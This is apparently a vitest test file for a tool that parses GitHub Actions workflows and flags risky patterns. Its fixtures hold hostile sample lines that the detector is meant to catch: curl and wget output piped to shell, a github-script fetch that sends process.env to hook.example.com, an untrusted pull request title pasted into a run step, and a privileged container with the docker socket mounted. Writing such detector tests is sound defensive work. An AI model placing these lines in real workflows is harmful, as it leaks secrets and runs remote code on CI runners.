// GitHub workflows and actions, by cases that follow the documentation of each key in our own words.
import { describe, expect, it } from 'vitest';
import { read, signs, unplaced } from './reading.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const workflow = (source: string) => read('.github/workflows/ci.yml', source);

describe('what starts a workflow', () => {
  it('is one event, a list of them, or a map with filters', () => {
    expect(workflow('on: push\n').triggers).toMatchObject([{ event: 'push', filters: [] }]);
    expect(workflow('on: [push, pull_request]\n').triggers.map(({ event }) => event)).toEqual(['push', 'pull_request']);
    const map =
      'on:\n  push:\n    branches: [main, "release/**"]\n  pull_request_target:\n    types: [labeled]\n  workflow_dispatch:\n';
    expect(unplaced(workflow(map).triggers)).toEqual([
      { event: 'push', filters: ['branches: main', 'branches: release/**'] },
      { event: 'pull_request_target', filters: ['types: labeled'] },
      { event: 'workflow_dispatch', filters: [] },
    ]);
  });

  it('is a schedule, with each of its times', () => {
    const text = "on:\n  schedule:\n    - cron: '30 5 * * 1,3'\n    - cron: '30 5 * * 2,4'\n";
    expect(workflow(text).triggers).toEqual([
      { event: 'schedule', filters: ['cron: 30 5 * * 1,3', 'cron: 30 5 * * 2,4'], line: 3 },
    ]);
  });

  it('is a call by another workflow, with the inputs it takes', () => {
    const text = 'on:\n  workflow_call:\n    inputs:\n      target: { type: string }\n';
    expect(unplaced(workflow(text).triggers)).toEqual([{ event: 'workflow_call', filters: ['input: target'] }]);
  });
});

describe('permissions', () => {
  it('stand at the workflow and at the job', () => {
    const text =
      'permissions:\n  contents: read\njobs:\n  publish:\n    permissions:\n      id-token: write\n      packages: write\n';
    expect(unplaced(workflow(text).permissions)).toEqual([
      { scope: 'contents', access: 'read' },
      { job: 'publish', scope: 'id-token', access: 'write' },
      { job: 'publish', scope: 'packages', access: 'write' },
    ]);
  });

  it('are all of them with write-all, each as far as it goes', () => {
    const { permissions } = workflow('permissions: write-all\n');
    expect(permissions.find(({ scope }) => scope === 'contents')).toMatchObject({ access: 'write', all: true });
    expect(permissions.find(({ scope }) => scope === 'models')).toMatchObject({ access: 'read', all: true });
    expect(workflow('permissions: read-all\n').permissions.every(({ access }) => access === 'read')).toBe(true);
  });

  it('are none with an empty map', () => {
    expect(unplaced(workflow('permissions: {}\n').permissions)).toEqual([{ scope: '*', access: 'none' }]);
  });

  it('with a level that does not exist are not invented', () => {
    expect(workflow('permissions:\n  contents: admin\n').permissions).toEqual([]);
  });
});

describe('secrets', () => {
  const inEnv = (value: string) =>
    workflow(`jobs:\n  a:\n    env:\n      X: ${value}\n`).secrets.map(({ name }) => name);

  it('are named with a dot or in brackets', () => {
    expect(inEnv('${{ secrets.NPM_TOKEN }}')).toEqual(['NPM_TOKEN']);
    expect(inEnv("${{ secrets['NPM_TOKEN'] }}")).toEqual(['NPM_TOKEN']);
    expect(inEnv("${{ inputs.dry && '' || secrets.A }} ${{ secrets.B }}")).toEqual(['A', 'B']);
  });

  it('are all of them when they are dumped, or picked by a computed name', () => {
    expect(inEnv('${{ toJSON(secrets) }}')).toEqual(['*']);
    expect(inEnv('${{ secrets[matrix.name] }}')).toEqual(['*']);
  });

  it('are all of them when a called workflow inherits', () => {
    const text = 'jobs:\n  call:\n    uses: acme/ci/.github/workflows/build.yml@v1\n    secrets: inherit\n';
    expect(unplaced(workflow(text).secrets)).toEqual([{ job: 'call', name: '*', via: 'inherit' }]);
  });

  it('are not what merely has such a name, and not in comments', () => {
    expect(inEnv('${{ needs.a.outputs.secrets }} secrets.A')).toEqual([]);
    expect(inEnv('plain # ${{ secrets.A }}')).toEqual([]);
  });
});

describe('what a workflow takes from elsewhere', () => {
  it('is an action, a reusable workflow, an image, each as firmly as its reference', () => {
    const text = `jobs:
  build:
    container: node:18
    services:
      db:
        image: postgres@sha256:${'ab'.repeat(32)}
    steps:
      - uses: actions/checkout@v4
      - uses: acme/tool@${COMMIT}
      - uses: acme/tool/sub@main
      - uses: ./.github/actions/own
      - uses: docker://alpine:3.19
  call:
    uses: acme/ci/.github/workflows/build.yml@main
`;
    const { uses, images } = workflow(text);
    expect(uses.map(({ kind, name, pinned }) => [kind, name, pinned])).toEqual([
      ['action', 'actions/checkout', 'tag'],
      ['action', 'acme/tool', 'commit'],
      ['action', 'acme/tool/sub', 'branch'],
      ['action', './.github/actions/own', 'local'],
      ['workflow', 'acme/ci/.github/workflows/build.yml', 'branch'],
    ]);
    expect(images.map(({ role, name, pinned }) => [role, name, pinned])).toEqual([
      ['step', 'alpine', 'tag'],
      ['job', 'node', 'tag'],
      ['service', 'postgres', 'digest'],
    ]);
  });
});

describe('where a job runs', () => {
  const runner = (rest: string) => unplaced(workflow(`jobs:\n  a:\n${rest}`).runners)[0];

  it('is a runner of GitHub, one of its own, or not told', () => {
    expect(runner('    runs-on: ubuntu-24.04\n')).toMatchObject({ labels: ['ubuntu-24.04'], self_hosted: false });
    expect(runner('    runs-on: [self-hosted, linux]\n')).toMatchObject({
      labels: ['self-hosted', 'linux'],
      self_hosted: true,
    });
    expect(runner('    runs-on: big-runner\n')).toEqual({ job: 'a', labels: ['big-runner'] });
  });

  it('is a group with labels', () => {
    expect(runner('    runs-on:\n      group: ubuntu-runners\n      labels: large\n')).toMatchObject({
      group: 'ubuntu-runners',
      labels: ['large'],
    });
  });

  it('is what the matrix can make of it', () => {
    const matrix =
      '    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n        include:\n          - os: self-hosted\n';
    expect(runner(matrix)).toMatchObject({
      choices: ['ubuntu-latest', 'windows-latest', 'self-hosted'],
      self_hosted: true,
    });
  });
});

describe('steps', () => {
  it('have names, ids, actions, or the first line of what they run', () => {
    const text =
      'jobs:\n  a:\n    steps:\n      - name: Build\n        run: make\n      - id: test\n        run: make test\n      - uses: acme/tool@v1\n      - run: |\n          make dist\n          ls\n';
    expect(workflow(text).jobs).toMatchObject([{ name: 'a', steps: ['Build', 'test', 'acme/tool', 'Run make dist'] }]);
  });

  it('are told by line what they do', () => {
    const text =
      'jobs:\n  a:\n    steps:\n      - name: Install\n        run: |\n          set -e\n          curl -fsSL https://get.example.com | sh\n          echo "A=1" >> "$GITHUB_ENV"\n';
    const definition = workflow(text);
    expect(signs(definition)).toEqual(['7 pipe-to-shell', '8 env-file']);
    expect(definition.hosts).toMatchObject([
      { host: 'get.example.com', domain: 'example.com', how: 'contacted', line: 7, job: 'a' },
    ]);
  });

  it('paste what a stranger wrote, unless it goes through the environment', () => {
    const pasted = 'jobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n';
    const handed =
      'jobs:\n  a:\n    steps:\n      - env: { T: "${{ github.event.pull_request.title }}" }\n        run: echo "$T"\n';
    expect(workflow(pasted).scripts[0]?.untrusted).toEqual(['github.event.pull_request.title']);
    expect(workflow(handed).scripts[0]?.untrusted).toEqual([]);
    expect(workflow(pasted.replace('pull_request.title', 'repository.name')).scripts[0]?.untrusted).toEqual([]);
  });

  it('check out the head of a pull request', () => {
    const text =
      'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n';
    expect(workflow(text).checkouts).toMatchObject([{ job: 'a', untrusted: true }]);
    expect(workflow(text.replace('${{ github.event.pull_request.head.sha }}', 'v1')).checkouts).toMatchObject([
      { ref: 'v1', untrusted: false },
    ]);
  });

  it('of github-script are read as what they are', () => {
    const text =
      'jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            await fetch("https://hook.example.com", { body: JSON.stringify(process.env) })\n';
    expect(workflow(text).scripts[0]?.network).toMatchObject([{ tool: 'node', hosts: ['hook.example.com'] }]);
    expect(signs(workflow(text))).toEqual(['7 env-dump']);
  });
});

describe('a job', () => {
  it('has its environment and its condition', () => {
    const text =
      "jobs:\n  deploy:\n    if: github.ref == 'refs/heads/main'\n    environment:\n      name: production\n      url: https://app.example.com\n";
    const { environments, gates } = workflow(text);
    expect(unplaced(environments)).toEqual([{ job: 'deploy', name: 'production', url: 'https://app.example.com' }]);
    expect(unplaced(gates)).toEqual([{ job: 'deploy', kind: 'condition', detail: "github.ref == 'refs/heads/main'" }]);
  });

  it('asks for the host through the options of its container', () => {
    const text =
      'jobs:\n  a:\n    container:\n      image: node:18\n      options: --privileged\n      volumes: [/var/run/docker.sock:/var/run/docker.sock]\n';
    expect(signs(workflow(text)).map((sign) => sign.slice(2))).toEqual(['privileged', 'docker-socket']);
  });
});

describe('an action', () => {
  it('is composed of steps', () => {
    const text =
      'name: Own\nruns:\n  using: composite\n  steps:\n    - uses: acme/tool@v2\n    - run: wget -qO- https://x.example.com | bash\n      shell: bash\n';
    const action = read('action.yml', text);
    expect(action.uses).toMatchObject([{ name: 'acme/tool', step: 'acme/tool' }]);
    expect(action.scripts).toMatchObject([{ shell: 'bash', signs: [{ kind: 'pipe-to-shell' }] }]);
  });

  it('is a program of its own, with what runs before and after it', () => {
    const text = 'runs:\n  using: node20\n  main: dist/index.js\n  post: dist/cleanup.js\n';
    expect(read('.github/actions/x/action.yaml', text).jobs).toMatchObject([
      { steps: ['main: dist/index.js', 'post: dist/cleanup.js'] },
    ]);
  });
});
